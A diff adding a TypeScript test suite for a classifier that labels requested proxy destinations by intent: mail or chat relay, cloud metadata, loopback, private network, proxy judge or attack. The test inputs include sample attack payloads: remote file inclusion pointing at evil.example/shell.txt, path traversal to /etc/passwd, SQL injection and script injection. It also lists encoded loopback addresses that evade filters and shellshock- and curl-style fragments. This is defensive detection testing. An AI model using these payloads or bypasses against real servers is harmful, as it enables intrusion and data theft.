@@ -1,0 +1,109 @@
+import assert from 'node:assert/strict';
+import { suite, test } from 'node:test';
+import fc from 'fast-check';
+import { classifyIntent, nothingWanted, type Wanted } from '../../src/rules/intent.ts';
+import { latin1 } from '../wire/arbitraries.ts';
+
+const wanted = (host: string, port: number | null = 80, path = '/', body?: string): Wanted => ({
+  host,
+  port,
+  path,
+  text: '',
+  ...(body === undefined ? {} : { body }),
+});
+
+suite('the intent', () => {
+  for (const [intent, ...all] of [
+    ['mail-relay', ...[25, 465, 587, 2525].map((port) => wanted('mail.example.com', port))],
+    ['chat-relay', ...[6660, 6667, 6669, 6697, 7000].map((port) => wanted('irc.example.com', port))],
+    [
+      'metadata',
+      ...[
+        '169.254.169.254',
+        '[fd00:ec2::254]',
+        '[::ffff:169.254.169.254]',
+        '100.100.100.200',
+        'metadata.google.internal',
+      ].map((host) => wanted(host)),
+    ],
+    [
+      'loopback',
+      ...[
+        '127.0.0.1',
+        '127.9.9.9',
+        '[::1]',
+        'localhost',
+        'a.localhost',
+        '0.0.0.0',
+        '127.1',
+        '0x7f.1',
+        '2130706433',
+        '0177.0.0.1',
+      ].map((host) => wanted(host)),
+    ],
+    [
+      'private-network',
+      ...[
+        '10.0.0.1',
+        '192.168.1.1',
+        '172.16.0.1',
+        '[fd12::1]',
+        '[fe80::1]',
+        'printer.local',
+        'db.internal',
+        'router.lan',
+      ].map((host) => wanted(host)),
+    ],
+    [
+      'third-party-attack',
+      wanted('www.example.com', 80, '/index.php?mosConfig_absolute_path=http://www.example.org'),
+      wanted(
+        'www.example.com',
+        80,
+        '/',
+        'option=com_content&GLOBALS=&mosConfig_absolute_path=http://www.example.org',
+      ),
+      wanted('www.example.com', 80, '/x?page=http://evil.example/shell.txt'),
+      wanted('www.example.com', 80, '/x?f=..%2f..%2f..%2fetc%2fpasswd'),
+      wanted('www.example.com', 80, '/x?id=1+union+select+1'),
+      wanted('www.example.com', 80, '/x?q=%3Cscript%3E'),
+    ],
+    [
+      'proxy-judge',
+      wanted('azenv.net'),
+      wanted('www.example.com', 80, '/azenv.php'),
+      wanted('api.ipify.org', 443),
+      wanted('www.example.com', 80, '/cgi-bin/textenv.pl'),
+    ],
+    [
+      'web',
+      wanted('www.example.com'),
+      wanted('www.example.com', 443),
+      wanted('8.8.8.8'),
+      wanted('notlocalhost'),
+      wanted('www.example.com', 80, '/judgement'),
+      nothingWanted,
+    ],
+  ] as const) {
+    for (const one of all)
+      test(`${JSON.stringify([one.host, one.port, one.path, one.body])}: ${intent}`, () =>
+        assert.equal(classifyIntent(one), intent));
+  }
+
+  test('anything has one, quickly: no text makes the patterns run away', () => {
+    fc.assert(
+      fc.property(latin1, fc.option(fc.nat(65535)), latin1, latin1, (host, port, path, body) => {
+        classifyIntent({ host, port, path, text: '', body });
+      }),
+      { numRuns: 2000 },
+    );
+    // Each repeats what a pattern begins with, at the bound of evidence.
+    for (const piece of ['?a=http:', '../', "'+", 'union+', '%2e', '?[[[[=', '&a=php:&', ' () { ', 'curl+']) {
+      classifyIntent({
+        ...nothingWanted,
+        path: piece.repeat(8192 / piece.length),
+        body: piece.repeat(8192 / piece.length),
+      });
+    }
+  });
+});
